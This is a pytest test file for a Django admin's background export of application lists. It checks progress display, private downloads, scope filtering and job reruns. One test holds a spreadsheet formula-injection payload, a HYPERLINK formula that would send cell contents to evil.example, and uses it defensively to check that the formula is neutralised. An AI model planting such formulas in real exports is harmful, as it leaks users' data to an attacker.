"""A long application list is exported by a background job: the staff member starts it from the list,
follows its progress there, and downloads the private file once it is written. The file is theirs alone
and holds only rows of their scope, every cell neutralised as in the direct export."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from review.admin import pages
from review.models import Job, JobKind, JobStatus
from review.services.jobs import application_export_run
from tests.files.helpers import use_private_storage

pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:registration_application_changelist")


def export_url(file_format: str) -> str:
    return reverse("admin:registration_application_export", args=[file_format])


@pytest.fixture(autouse=True)
def _private_storage(settings, tmp_path):
    use_private_storage(settings, tmp_path)


@pytest.fixture
def short_direct_limit(monkeypatch):
    # Three rows are already "a long list": the job's path, without writing thousands of applications.
    monkeypatch.setattr(pages, "EXPORT_DIRECT_LIMIT", 2)


@pytest.fixture
def login(client, world):
    def as_staff(name):
        client.force_login(world.staff[name])
        return client

    return as_staff


def start_export(client, file_format, capture, query=""):
    with capture(execute=True):
        response = client.post(f"{export_url(file_format)}{query}")
    assert response.status_code == 302
    return response, Job.objects.filter(kind=JobKind.APPLICATION_EXPORT).latest("pk")


def downloaded(client, job) -> bytes:
    response = client.get(reverse("admin:review_job_download", args=[job.pk]))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    return b"".join(response.streaming_content)


def test_a_long_list_offers_the_background_export_and_refuses_the_direct_one(world, login, short_direct_limit):
    for _ in range(3):
        world.make_application()
    client = login("sh_point")

    page = client.get(CHANGELIST).content.decode()
    direct = client.get(export_url("csv"))

    assert "后台导出 CSV" in page and "后台导出 Excel" in page
    assert f'action="{export_url("csv")}?' in page
    assert direct.status_code == 302 and direct["Location"] == CHANGELIST
    assert not Job.objects.exists()
    assert "后台导出" in client.get(direct["Location"]).content.decode()


def test_a_short_list_is_still_answered_at_once(world, login):
    world.make_application()
    page = login("sh_point").get(CHANGELIST).content.decode()
    assert "后台导出" not in page and f'href="{export_url("csv")}?' in page


def test_the_export_starts_shows_its_progress_on_the_list_and_gives_the_file(
    world, login, short_direct_limit, django_capture_on_commit_callbacks
):
    confirmed = [world.make_application(status="confirmed") for _ in range(3)]
    world.make_application(status="submitted")
    client = login("sh_point")

    response, job = start_export(client, "csv", django_capture_on_commit_callbacks, "?status__exact=confirmed")

    assert response["Location"] == f"{CHANGELIST}?status__exact=confirmed"
    job.refresh_from_db()
    assert (job.status, job.total, job.processed, job.succeeded) == (JobStatus.DONE, 3, 3, 3)
    progress = client.get(reverse("admin:review_job_progress", args=[job.pk])).json()
    assert progress["percent"] == 100 and progress["finished"] is True and progress["status_label"] == "已完成"
    assert progress["download_url"] == reverse("admin:review_job_download", args=[job.pk])
    page = client.get(response["Location"]).content.decode()
    assert "已开始导出3条报名信息" in page
    assert 'aria-label="导出进度"' in page and "下载CSV文件" in page
    text = downloaded(client, job).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:4] == ["网报号", "姓名", "证件号码", "状态"]
    # In the list's order (oldest submission first), only the filtered rows.
    assert sorted(row[0] for row in rows[1:]) == sorted(application.number for application in confirmed)
    assert all(row[3] == "已确认，待审核" for row in rows[1:])


def test_the_progress_of_a_job_not_yet_run_is_zero_with_no_file(world, login, short_direct_limit):
    for _ in range(3):
        world.make_application()
    client = login("sh_point")

    client.post(export_url("xlsx"))  # on_commit not run: the job waits for its worker

    job = Job.objects.get(kind=JobKind.APPLICATION_EXPORT)
    progress = client.get(reverse("admin:review_job_progress", args=[job.pk])).json()
    assert (progress["status"], progress["percent"], progress["finished"]) == ("pending", 0, False)
    assert progress["download_url"] == ""
    assert client.get(reverse("admin:review_job_download", args=[job.pk])).status_code == 404
    page = client.get(CHANGELIST).content.decode()
    assert "排队中 · 0 / 3（0%）" in page and "job-progress.js" in page


def test_an_xlsx_export_neutralises_formulas_like_the_direct_one(
    world, login, short_direct_limit, django_capture_on_commit_callbacks
):
    """OWASP CSV injection: =HYPERLINK(...) typed as the unit's name is written as text in the job's file too."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
    world.make_application(unit=None, other_unit_name=formula)
    world.make_application()
    world.make_application()
    client = login("sh_point")

    _response, job = start_export(client, "xlsx", django_capture_on_commit_callbacks)

    sheet = load_workbook(io.BytesIO(downloaded(client, job))).active
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "'" + formula in values
    assert not any(isinstance(value, str) and value.startswith(("=", "+", "-", "@")) for value in values)
    assert job.file_name.endswith(".xlsx")


def test_someone_elses_export_is_404_even_for_an_administrator(
    world, login, short_direct_limit, django_capture_on_commit_callbacks
):
    for _ in range(3):
        world.make_application()
    _response, job = start_export(login("sh_point"), "csv", django_capture_on_commit_callbacks)
    download = reverse("admin:review_job_download", args=[job.pk])
    progress = reverse("admin:review_job_progress", args=[job.pk])

    assert login("sh_point2").get(download).status_code == 404
    assert login("sh_point2").get(progress).status_code == 404
    assert login("sh_site").get(download).status_code == 404
    administrator = login("admin")
    assert administrator.get(download).status_code == 404
    # The administrator follows the job's progress, but its file is not handed out.
    assert administrator.get(progress).json()["download_url"] == ""


def test_rows_out_of_scope_never_reach_the_file(world, login, short_direct_limit, django_capture_on_commit_callbacks):
    mine = [world.make_application() for _ in range(3)]
    others = [world.make_application(point=world.p2), world.make_application(point=world.bj1)]
    client = login("sh_point")
    forged = "&".join(f"id__in={application.pk}" for application in [*mine, *others])

    _response, job = start_export(client, "csv", django_capture_on_commit_callbacks, f"?{forged}")

    text = downloaded(client, job).decode("utf-8")
    numbers = {row[0] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))}
    assert {application.number for application in mine} <= numbers
    assert not numbers & {application.number for application in others}


def test_a_row_that_left_the_scope_before_the_worker_ran_is_skipped(
    world, login, short_direct_limit, django_capture_on_commit_callbacks
):
    applications = [world.make_application() for _ in range(3)]
    client = login("sh_point")
    client.post(export_url("csv"))  # queued, not yet run
    job = Job.objects.get(kind=JobKind.APPLICATION_EXPORT)
    moved = applications[0]
    moved.registration_point = world.p2
    moved.save(update_fields=["registration_point"])

    application_export_run(job_id=job.pk)

    job.refresh_from_db()
    assert (job.status, job.processed, job.succeeded, job.skipped) == (JobStatus.DONE, 3, 2, 1)
    numbers = {row[0] for row in csv.reader(io.StringIO(downloaded(client, job).decode("utf-8").lstrip("\ufeff")))}
    assert moved.number not in numbers and applications[1].number in numbers


def test_running_the_job_twice_leaves_one_file_with_the_rows_once(
    world, login, short_direct_limit, django_capture_on_commit_callbacks
):
    for _ in range(3):
        world.make_application()
    client = login("sh_point")
    client.post(export_url("csv"))
    job = Job.objects.get(kind=JobKind.APPLICATION_EXPORT)
    Job.objects.filter(pk=job.pk).update(status=JobStatus.RUNNING, processed=2, succeeded=2)  # a worker died

    application_export_run(job_id=job.pk)
    application_export_run(job_id=job.pk)

    job.refresh_from_db()
    assert (job.processed, job.succeeded, job.skipped) == (3, 3, 0)
    assert len(downloaded(client, job).decode("utf-8").splitlines()) == 4


def test_an_empty_selection_starts_no_job(world, login, short_direct_limit):
    response = login("sh_point").post(f"{export_url('csv')}?status__exact=paid")
    assert response.status_code == 302
    assert not Job.objects.exists()
    assert "没有可导出的报名信息" in login("sh_point").get(response["Location"]).content.decode()


def test_staff_without_the_list_cannot_start_an_export(world, login, short_direct_limit):
    world.make_application()
    assert login("sh_finance").post(export_url("csv")).status_code in {403, 404}
    assert not Job.objects.exists()
